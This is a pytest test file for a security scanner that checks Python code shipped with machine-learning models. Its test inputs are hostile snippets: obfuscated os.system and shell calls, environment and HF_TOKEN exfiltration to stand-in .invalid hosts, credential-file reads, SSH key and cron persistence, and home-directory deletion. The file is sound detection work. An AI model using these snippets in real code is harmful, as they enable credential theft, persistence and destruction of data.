"""Shipped Python review: realistic modelling code stays clean; every hiding trick still resolves."""

from __future__ import annotations

import base64
import pickle
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from builders import hf
from modelcert.checks.remote_code import analyze_pyc
from modelcert.errors import FormatError
from modelcert.findings import ArtifactReport, Confidence, Finding, Location, Severity, Verdict
from modelcert.formats.blob import BytesBlob
from modelcert.formats.pycode import parse_python_bytes, relative_imports
from modelcert.limits import Limits
from modelcert.scan import scan_blob, scan_paths

CMD = hf.CMD


def review(source: str | bytes, name: str = "modeling_x.py") -> ArtifactReport:
    data = source.encode() if isinstance(source, str) else source
    return scan_blob(BytesBlob(data, name), name)


def own(report: ArtifactReport, check_id: str) -> list[Finding]:
    return [f for f in report.findings if f.check_id == check_id]


def only(report: ArtifactReport, check_id: str) -> Finding:
    found = own(report, check_id)
    assert len(found) == 1, [f.to_dict() for f in report.all_findings()]
    return found[0]


def ids(report: ArtifactReport) -> set[str]:
    return {f.check_id for f in report.findings}


# ---- benign --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("configuration_toy.py", hf.CONFIGURATION_TOY),
        ("modeling_toy.py", hf.MODELING_TOY),
        ("tokenization_toy.py", hf.TOKENIZATION_SENTENCEPIECE),
        ("tokenization_toy_tiktoken.py", hf.TOKENIZATION_TIKTOKEN),
    ],
)
def test_realistic_modelling_files_are_clean(name: str, source: str) -> None:
    report = review(source, name)
    assert report.format == "python"
    assert report.verdict is Verdict.CLEAN, [f.to_dict() for f in report.all_findings()]
    assert all(f.severity is Severity.INFO for f in report.all_findings())


def test_benign_idioms_do_not_fire() -> None:
    source = f"""
import os, sys, torch, yaml, importlib, numpy as np
from torch import nn
torch.backends.cudnn.benchmark = True
os.environ["TOKENIZERS_PARALLELISM"] = "false"
sys.path.insert(0, os.path.dirname(__file__))
act = getattr(nn, "GELU")
dtype = getattr(torch, os.environ.get("TOY_DTYPE", "float16"))
flash = importlib.import_module("flash_attn")
state = torch.load("w.bin", map_location="cpu", weights_only=True)
arr = np.load("a.npy")
cfg = yaml.load(open("c.yaml"), Loader=yaml.SafeLoader)
cfg2 = yaml.safe_load(open("c.yaml"))
home = os.environ.get("HF_HOME", os.path.expanduser("~/.cache/huggingface"))
def save(d):
    with open(os.path.join(d, "vocab.txt"), "w") as fh:
        fh.write("x")
model = object()
def run():
    return model.eval()
if __name__ == "__main__":
    print({CMD!r})
"""
    report = review(source)
    assert report.verdict is Verdict.CLEAN, [f.to_dict() for f in report.all_findings()]


# ---- regressions from the brief ---------------------------------------------------------------------


def test_auto_map_wired_file_with_import_time_system_is_unsafe_and_raised(tmp_path: Path) -> None:
    wired_dir = tmp_path / "wired"
    hf.custom_code_package(wired_dir, configuration=hf.IMPORT_TIME_SYSTEM)
    loose_dir = tmp_path / "loose"
    hf.write_text(loose_dir, "configuration_toy.py", hf.IMPORT_TIME_SYSTEM)
    wired = next(f for f in scan_paths([wired_dir], workers=1).files if f.path == "configuration_toy.py")
    loose = next(f for f in scan_paths([loose_dir], workers=1).files if f.path == "configuration_toy.py")
    wired_finding, loose_finding = only(wired, "MC413"), only(loose, "MC413")
    assert wired.verdict is Verdict.UNSAFE and loose.verdict is Verdict.UNSAFE
    assert loose_finding.severity is Severity.HIGH
    assert wired_finding.severity is Severity.CRITICAL  # raised: from_pretrained imports it
    assert {"wired", "import-time"} <= set(wired_finding.tags)
    assert "config.json auto_map[AutoConfig]" in wired_finding.details["wired_by"][0]
    assert wired_finding.details["command"] == CMD


def test_relative_imports_of_wired_files_are_wired_too(tmp_path: Path) -> None:
    modeling = hf.MODELING_TOY.replace(
        "from .configuration_toy import ToyConfig",
        "from .configuration_toy import ToyConfig\nfrom .kernels_toy import fused",
    )
    hf.custom_code_package(tmp_path, modeling=modeling)
    hf.write_text(tmp_path, "kernels_toy.py", f"import os\n\ndef fused():\n    os.system({CMD!r})\n")
    report = scan_paths([tmp_path], workers=1)
    finding = only(next(f for f in report.files if f.path == "kernels_toy.py"), "MC413")
    assert "wired" in finding.tags and "relative import in modeling_toy.py" in finding.details["wired_by"][0]


def test_obfuscated_base64_exec_is_unsafe_and_payload_is_scanned() -> None:
    report = review(hf.OBFUSCATED_B64_EXEC)
    finding = only(report, "MC411")
    assert (finding.verdict, finding.severity, finding.location.line) == (
        Verdict.UNSAFE,
        Severity.CRITICAL,
        5,
    )
    assert "import-time" in finding.tags
    member = report.members[0]
    assert member.format == "python" and member.verdict is Verdict.UNSAFE
    assert [f.check_id for f in member.findings if f.verdict is Verdict.UNSAFE] == ["MC413"]


def test_exec_of_zlib_decompressed_code_is_unsafe() -> None:
    report = review(hf.OBFUSCATED_ZLIB_EXEC)
    assert only(report, "MC411").location.line == 4
    assert report.members and report.members[0].verdict is Verdict.UNSAFE


def test_marshal_loads_then_exec_is_unsafe() -> None:
    report = review(hf.MARSHAL_EXEC)
    lines = sorted(f.location.line or 0 for f in own(report, "MC411"))
    assert lines == [2, 3]  # the unmarshal of decoded bytes and the exec of its result


def test_subprocess_through_aliases() -> None:
    report = review(hf.SUBPROCESS_ALIAS)
    found = {(f.details["target"], f.location.line) for f in own(report, "MC413")}
    assert found == {("subprocess.Popen", 6), ("os.system", 11)}
    assert report.verdict is Verdict.UNSAFE


def test_socket_exfiltration_of_the_environment() -> None:
    report = review(hf.SOCKET_ENV_EXFIL)
    finding = only(report, "MC415")
    assert (finding.verdict, finding.confidence, finding.location.line) == (
        Verdict.UNSAFE,
        Confidence.HIGH,
        8,
    )
    assert "import-time" in finding.tags  # _report() is called at module level


def test_requests_text_then_exec_is_downloaded_code() -> None:
    report = review(hf.REQUESTS_EXEC)
    finding = only(report, "MC412")
    assert (finding.verdict, finding.severity, finding.location.line) == (
        Verdict.UNSAFE,
        Severity.CRITICAL,
        6,
    )
    assert only(report, "MC414").verdict is Verdict.SUSPICIOUS


def test_write_to_ssh_authorized_keys() -> None:
    report = review(hf.SSH_AUTHORIZED_KEYS)
    paths = {f.details["path"] for f in own(report, "MC416")}
    assert paths == {"~/.ssh", "~/.ssh/authorized_keys"}
    assert report.verdict is Verdict.UNSAFE


def test_chr_chain_is_decoded_and_scanned() -> None:
    report = review(hf.chr_chain_exec())
    assert only(report, "MC411").verdict is Verdict.UNSAFE
    assert report.members[0].verdict is Verdict.UNSAFE


# ---- resolution of hidden callables -------------------------------------------------------------------

_HIDDEN_SYSTEM = [
    f'getattr(__import__("o" + "s"), "sys" + "tem")({CMD!r})',
    f'__import__("base64") and __import__("os").system({CMD!r})',
    f'import builtins\nbuiltins.__dict__["__import__"]("os").system({CMD!r})',
    f'import sys, os\nsys.modules["os"].system({CMD!r})',
    f'import os\nvars(os)["system"]({CMD!r})',
    f'import os\nos.__dict__["sys" "tem"]({CMD!r})',
    f'import importlib\nimportlib.import_module("subprocess").check_output({CMD!r}, shell=True)',
    f'import os, operator\noperator.methodcaller("system", {CMD!r})(os)',
    f'import os, operator\noperator.attrgetter("system")(os)({CMD!r})',
    f"import posix\nposix.system({CMD!r})",
    f"from os import *\nsystem({CMD!r})",
    f"import os\nrun = os.system\nalias = run\nalias({CMD!r})",
    f'import os, base64\ngetattr(os, base64.b64decode("c3lzdGVt").decode())({CMD!r})',
    f'import os\ngetattr(os, "metsys"[::-1])({CMD!r})',
    f"import os, threading\nthreading.Thread(target=os.system, args=({CMD!r},)).start()",
    f"import os, multiprocessing\nmultiprocessing.Pool(1).map(os.system, [{CMD!r}])",
    f"import asyncio\nasyncio.create_subprocess_shell({CMD!r})",
    'from asyncio.subprocess import create_subprocess_exec\ncreate_subprocess_exec("echo")',
    'import pty\npty.spawn("/bin/sh")',
    f"import os\nos.popen({CMD!r}).read()",
    f'import os\nos.execvp("sh", ["sh", "-c", {CMD!r}])',
]


@pytest.mark.parametrize("source", _HIDDEN_SYSTEM)
def test_process_execution_however_spelled(source: str) -> None:
    report = review(source)
    assert "MC413" in ids(report), [f.to_dict() for f in report.all_findings()]
    assert report.verdict is Verdict.UNSAFE


@pytest.mark.parametrize(
    ("source", "advisory"),
    [
        ("import pkgutil\npkgutil.resolve_name('os:system')('{c}')", "GHSA-vvpj-8cmc-gx39"),
        ("import pydoc\npydoc.locate('os.system')('{c}')", "GHSA-vvpj-8cmc-gx39"),
        ("import pydoc\npydoc.pipepager('x', '{c}')", "GHSA-655q-fx9r-782v"),
        ("from torch.utils.collect_env import run\nrun('{c}')", "protectai/modelscan#338"),
        (
            "import multiprocessing.util as u\nu.spawnv_passfds('/bin/sh', ['sh'], [])",
            "protectai/modelscan#338",
        ),
        ("import uuid\nuuid._get_command_stdout('{c}')", "CVE-2026-56315"),
        ("import imaplib\nimaplib.IMAP4_stream('{c}')", "CVE-2026-56315"),
        ("import pip\npip.main(['install', 'modelcert-test'])", "CVE-2025-1716"),
    ],
)
def test_command_runners_named_in_scanner_advisories(source: str, advisory: str) -> None:
    report = review(source.format(c=CMD))
    assert "MC413" in ids(report), (advisory, [f.to_dict() for f in report.all_findings()])


@pytest.mark.parametrize(
    "source",
    [
        f"f = eval\nf(\"__import__('os').system({CMD!r})\")",
        'import builtins\ngetattr(builtins, "ex" + "ec")(input())',
        'globals()["__builtins__"]["exec"](input())',
        '__builtins__.__dict__["eval"](input())',
        'import runpy\nrunpy.run_path("stage2.py")',
        "import timeit\ntimeit.timeit(input())",
    ],
)
def test_dynamic_execution_however_spelled(source: str) -> None:
    report = review(source)
    assert ids(report) & {"MC410", "MC411"}, [f.to_dict() for f in report.all_findings()]


def _obfuscations() -> list[str]:
    payload = hf.PAYLOAD
    hexed = payload.encode().hex()
    ints = ", ".join(str(b) for b in payload.encode())
    xored = ", ".join(str(b ^ 0x5A) for b in payload.encode())
    rot = __import__("codecs").encode(payload, "rot13")
    return [
        f"exec({payload[::-1]!r}[::-1])",
        f"exec(bytes.fromhex({hexed!r}))",
        f"exec(bytes([{ints}]).decode())",
        f'exec("".join(map(chr, [{ints}])))',
        f"import codecs\nexec(codecs.decode({rot!r}, 'rot13'))",
        f"exec(bytes(b ^ 0x5A for b in [{xored}]))",
        f"import binascii\nsrc = binascii.unhexlify({hexed!r})\nexec(src)",
        f"import lzma, base64\nexec(lzma.decompress(base64.b64decode("
        f"{base64.b64encode(__import__('lzma').compress(payload.encode())).decode()!r})))",
        'exec(open(__file__.replace(".py", ".bin"), "rb").read()[4096:])',
        'exec(open("weights/blob.dat").read())',
    ]


@pytest.mark.parametrize("source", _obfuscations())
def test_obfuscated_payloads_are_unsafe(source: str) -> None:
    report = review(source)
    assert only(report, "MC411").verdict is Verdict.UNSAFE


def test_exec_of_a_shipped_python_file_is_suspicious_high() -> None:
    finding = only(review('exec(open("version_info.py").read())'), "MC410")
    assert finding.severity is Severity.HIGH and finding.verdict is Verdict.SUSPICIOUS


def test_obfuscated_module_name_is_reported_and_still_resolved() -> None:
    source = (
        "import importlib, base64\n"
        'm = importlib.import_module(base64.b64decode("b3M=").decode())\n'
        f"m.system({CMD!r})"
    )
    report = review(source)
    assert "MC418" in ids(report) and only(report, "MC413").details["target"] == "os.system"


def test_sitecustomize_shipped_in_a_package_is_tampering() -> None:
    assert "MC421" in ids(review("import sys\n", "sitecustomize.py"))


def test_constant_eval_payload_is_scanned_as_a_member() -> None:
    report = review(f"eval(\"__import__('os').system({CMD!r})\")")
    assert only(report, "MC410").verdict is Verdict.SUSPICIOUS
    assert report.members[0].verdict is Verdict.UNSAFE


def test_exec_through_a_local_helper_keeps_the_decoded_origin() -> None:
    source = f'''import base64
def _run(code):
    exec(code)
_run(base64.b64decode("{base64.b64encode(hf.PAYLOAD.encode()).decode()}"))
'''
    assert only(review(source), "MC411").location.line == 3


# ---- network, downloads, secrets -------------------------------------------------------------------


def test_hub_download_of_code_then_import_by_path() -> None:
    source = """import importlib.util
from huggingface_hub import hf_hub_download
path = hf_hub_download(repo_id="other/repo", filename="loader.py")
spec = importlib.util.spec_from_file_location("loader", path)
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
"""
    report = review(source)
    assert only(report, "MC414").severity is Severity.HIGH
    assert {f.location.line for f in own(report, "MC412")} >= {4}


def test_torch_hub_load_runs_remote_code() -> None:
    report = review('import torch\nm = torch.hub.load("someone/repo", "model", trust_repo=True)')
    assert only(report, "MC412").verdict is Verdict.UNSAFE


def test_environment_and_network_without_visible_flow_is_still_reported() -> None:
    source = """import os, json, requests
def stash():
    with open("/tmp/e.json", "w") as fh:
        json.dump(os.environ.copy(), fh)
def ship():
    requests.post("https://collector.modelcert-test.invalid", data=open("/tmp/e.json").read())
"""
    finding = only(review(source), "MC415")
    assert finding.confidence is Confidence.MEDIUM and finding.verdict is Verdict.SUSPICIOUS


def test_secret_variable_sent_over_http() -> None:
    source = (
        'import os, urllib.request\nurllib.request.urlopen("https://x.invalid/?t=" + os.getenv("HF_TOKEN"))'
    )
    assert only(review(source), "MC415").confidence is Confidence.HIGH


def test_credential_file_read() -> None:
    source = 'import os\ncreds = open(os.path.expanduser("~/.aws/credentials")).read()'
    finding = only(review(source), "MC416")
    assert finding.details["access"] == "rw" or finding.details["access"] == "read"


# ---- deserialisation, native code, reflection, tampering --------------------------------------------


@pytest.mark.parametrize(
    ("source", "check"),
    [
        ('import torch\ntorch.load("x.bin", weights_only=False)', "MC420"),
        ('import numpy as np\nnp.load("x.npy", allow_pickle=True)', "MC420"),  # CVE-2019-6446
        ('import yaml\nyaml.load(open("c.yaml"))', "MC420"),
        ('import yaml\nyaml.load(open("c.yaml"), Loader=yaml.Loader)', "MC420"),
        ('import torch\ntorch.jit.load("m.pt")', "MC420"),  # CVE-2025-32434: TorchScript is code
        ('import joblib\njoblib.load("m.joblib")', "MC420"),
        ('import ctypes\nctypes.CDLL("./libtoy.so")', "MC419"),
        ('from torch.utils.cpp_extension import load\nload(name="k", sources=["k.cu"])', "MC419"),
        ('import cffi\nffi = cffi.FFI()\nffi.dlopen("./libtoy.so")', "MC419"),
        ("import importlib\nimportlib.import_module(input())", "MC418"),
        ('import os\ngetattr(os, input())("x")', "MC418"),
        ("import sys\nsys.settrace(lambda *a: None)", "MC421"),
        ("import builtins\nbuiltins.open = lambda *a, **k: None", "MC421"),
        ('import os\nos.environ["LD_PRELOAD"] = "/tmp/x.so"', "MC421"),
        ('import os\nos.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"] = "1"', "MC421"),
        ('import os\nos.environ.update({"HF_ENDPOINT": "https://x.invalid"})', "MC421"),
        ("import torch\ntorch.load = lambda *a, **k: None", "MC421"),
        ('import sys\nsys.modules["transformers"] = object()', "MC421"),
        ("import sys\nsys.meta_path.insert(0, object())", "MC421"),
    ],
)
def test_risky_calls_are_classified(source: str, check: str) -> None:
    report = review(source)
    assert check in ids(report), [f.to_dict() for f in report.all_findings()]
    assert report.verdict is Verdict.SUSPICIOUS


def test_pickle_payload_embedded_in_code_is_scanned() -> None:
    blob = base64.b64encode(pickle.dumps({"weights": [1, 2, 3]})).decode()
    report = review(f'import pickle, base64\nstate = pickle.loads(base64.b64decode("{blob}"))')
    assert only(report, "MC411").verdict is Verdict.UNSAFE
    assert report.members and report.members[0].path == "payload@line2"


@pytest.mark.parametrize(
    ("source", "verdict"),
    [
        ('import shutil, os\nshutil.rmtree(os.path.expanduser("~"))', Verdict.UNSAFE),
        ('import site\nopen(site.getsitepackages()[0] + "/zz.pth", "w").write("import os")', Verdict.UNSAFE),
        ('import os\nwith open("/etc/cron.d/job", "w") as f:\n    f.write("x")', Verdict.UNSAFE),
        ('from pathlib import Path\n(Path.home() / ".bashrc").write_text("x")', Verdict.UNSAFE),
        ('import os\nopen("/opt/data/out.txt", "w")', Verdict.SUSPICIOUS),
        ('import os\nos.chmod("run.sh", 0o755)', Verdict.SUSPICIOUS),
        ("import os\ndef f(p):\n    os.remove(p)", Verdict.CLEAN),
        ('import os\nopen("/tmp/scratch.txt", "w")', Verdict.CLEAN),
    ],
)
def test_file_system_effects(source: str, verdict: Verdict) -> None:
    report = review(source)
    assert report.verdict is verdict, [f.to_dict() for f in report.all_findings()]


# ---- literals, import time, parsing -----------------------------------------------------------------


def test_long_encoded_literal_is_flagged_and_decoded() -> None:
    stage = hf.PAYLOAD + "".join(f"_k{i} = {i * 7919 % 10007}\n" for i in range(120))
    packed = base64.b64encode(zlib.compress(stage.encode())).decode()
    report = review(f'_KERNEL = "{packed}"\n')
    finding = only(report, "MC423")
    assert finding.confidence is Confidence.LOW and finding.details["encoding"] == "base64"
    assert report.members and "MC413" in {f.check_id for f in report.members[0].findings}


def test_main_guard_is_not_import_time_but_local_calls_and_decorators_are() -> None:
    source = f"""import os
def _hook(fn):
    os.system({CMD!r})
    return fn
@_hook
def forward():
    pass
def cli():
    os.popen({CMD!r})
if __name__ == "__main__":
    cli()
"""
    report = review(source)
    by_line = {f.location.line: f for f in own(report, "MC413")}
    assert "import-time" in by_line[3].tags
    assert "import-time" not in by_line[9].tags


def test_syntax_error_is_unscannable_with_its_line() -> None:
    report = review("import os\n\ndef broken(:\n    pass\n")
    assert report.verdict is Verdict.UNSCANNABLE
    finding = only(report, "MC901")
    assert "line 3" in finding.message


def test_latin1_source_with_coding_cookie_is_parsed_not_skipped() -> None:
    source = f"# -*- coding: latin-1 -*-\nimport os\nname = 'caf\xe9'\nos.system({CMD!r})\n".encode("latin-1")
    report = review(source)
    assert report.format == "python" and "MC413" in ids(report)


def test_binary_file_named_py_is_unscannable() -> None:
    report = review(b"\x00\x01\x02binary\xff\xfe", "modeling_x.py")
    assert report.verdict is Verdict.UNSCANNABLE


def test_pathologically_nested_source_is_a_limit_not_a_crash() -> None:
    report = review("x = " + "+".join(["a"] * 100_000) + "\n")
    assert report.verdict is Verdict.UNSCANNABLE
    assert ids(report) <= {"MC901", "MC902"} and ids(report)


def test_oversized_source_is_refused() -> None:
    source = b"x = 1\n" * 2000
    report = scan_blob(BytesBlob(source, "big.py"), "big.py", Limits(max_text_bytes=1024))
    assert only(report, "MC902").verdict is Verdict.UNSCANNABLE


def test_import_time_summary_lists_unusual_calls_only() -> None:
    source = """import logging, torch
from transformers import AutoConfig
logger = logging.getLogger(__name__)
def _phone_home():
    return 1
_phone_home()
AutoConfig.register("toy", object)
torch.set_default_dtype(torch.float32)
"""
    finding = only(review(source), "MC422")
    assert finding.verdict is Verdict.CLEAN
    assert [c["callee"] for c in finding.details["calls"]] == ["<local>._phone_home"]


def test_relative_imports_follow_the_transformers_rules() -> None:
    text = "from .configuration_x import XConfig\nimport .helpers\nfrom . import utils_a, utils_b as b\n"
    text += "from ..outside import y\n    from .nested_mod import z\n"
    assert relative_imports(text) == ["configuration_x", "helpers", "nested_mod", "utils_a", "utils_b"]


# ---- properties -----------------------------------------------------------------------------------


@pytest.mark.property
@settings(max_examples=150, deadline=None)
@given(st.text(max_size=400))
def test_arbitrary_text_never_breaks_the_analyzer(text: str) -> None:
    report = review(text.encode("utf-8", "surrogatepass"))
    assert "MC903" not in {f.check_id for f in report.all_findings()}


_FRAGMENTS = st.sampled_from(
    [
        "import os\n",
        "os.system(x)\n",
        "exec(",
        "eval(base64.b64decode(",
        "getattr(",
        "__import__(",
        '"os"',
        ")",
        "(",
        "[",
        "]",
        ", ",
        "\n",
        "    ",
        "def f(a):\n",
        "class C:\n",
        "return ",
        "lambda q: ",
        "x = ",
        "f(",
        "open(",
        '"~/.ssh/x"',
        ', "w")',
        "for i in range(3):\n",
        "import subprocess as sp\n",
        "sp.run(",
        "chr(",
        "''.join(",
        "[::-1]",
        " + ",
        "yield ",
        "await ",
        "async def g():\n",
        "global x\n",
        "*",
        "**",
    ]
)


@pytest.mark.property
@settings(max_examples=150, deadline=None)
@given(st.lists(_FRAGMENTS, max_size=40))
def test_python_shaped_fragments_never_break_the_analyzer(parts: list[str]) -> None:
    report = review("".join(parts))
    assert "MC903" not in {f.check_id for f in report.all_findings()}


@pytest.mark.property
@settings(max_examples=60, deadline=None)
@given(st.integers(min_value=0, max_value=len(hf.MODELING_TOY)), st.text(max_size=6))
def test_mutated_modelling_file_never_breaks_the_analyzer(cut: int, junk: str) -> None:
    report = review(hf.MODELING_TOY[:cut] + junk + hf.MODELING_TOY[cut:])
    assert "MC903" not in {f.check_id for f in report.all_findings()}


@pytest.mark.property
@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=300))
def test_python_reader_gives_a_tree_or_format_error(data: bytes) -> None:
    try:
        source = parse_python_bytes(data, "x.py")
    except FormatError:
        return
    assert source.size == len(data)


def test_urlretrieve_of_code_is_network_and_constants_are_not_callables() -> None:
    source = (
        "import subprocess, urllib.request\n"
        'urllib.request.urlretrieve("https://x.invalid/k.py", "k.py")\n'
        "print(subprocess.PIPE)\n"
    )
    report = review(source)
    assert only(report, "MC414").severity is Severity.HIGH
    assert "MC413" not in ids(report)


def test_hub_token_given_to_the_hub_client_is_not_exfiltration() -> None:
    source = (
        "import os\nfrom huggingface_hub import hf_hub_download\n"
        'p = hf_hub_download("org/extra", "head.safetensors", token=os.environ.get("HF_TOKEN"))\n'
    )
    report = review(source)
    assert "MC415" not in ids(report) and "MC414" in ids(report)


def test_non_latin_text_literal_is_not_a_payload() -> None:
    prompt = "你是一个乐于助人的助手，请认真回答用户的问题。" * 20
    assert "MC423" not in ids(review(f"SYSTEM_PROMPT = {prompt!r}\n"))


def test_binary_bytes_literal_is_a_payload() -> None:
    blob = bytes((i * 197 + 13) % 256 for i in range(1024))
    assert only(review(f"BLOB = {blob!r}\n"), "MC423").details["encoding"] == "binary"


class _Recorder:
    """The part of AnalysisContext the bytecode analyzer uses."""

    def __init__(self) -> None:
        self.location = Location(path="__pycache__/modeling_x.cpython-311.pyc")
        self.found: list[Finding] = []

    def add(self, finding: Finding) -> None:
        self.found.append(finding)


def test_compiled_bytecode_is_reported_not_unmarshalled() -> None:
    recorder = _Recorder()
    header = b"\xa7\r\r\n" + b"\x00" * 12
    analyze_pyc(BytesBlob(header + b"\xe3" + b"\x00" * 40, "x.pyc"), recorder)  # type: ignore[arg-type]
    assert [f.check_id for f in recorder.found] == ["MC424"]
    assert recorder.found[0].verdict is Verdict.SUSPICIOUS
    assert "bytecode header" in recorder.found[0].message
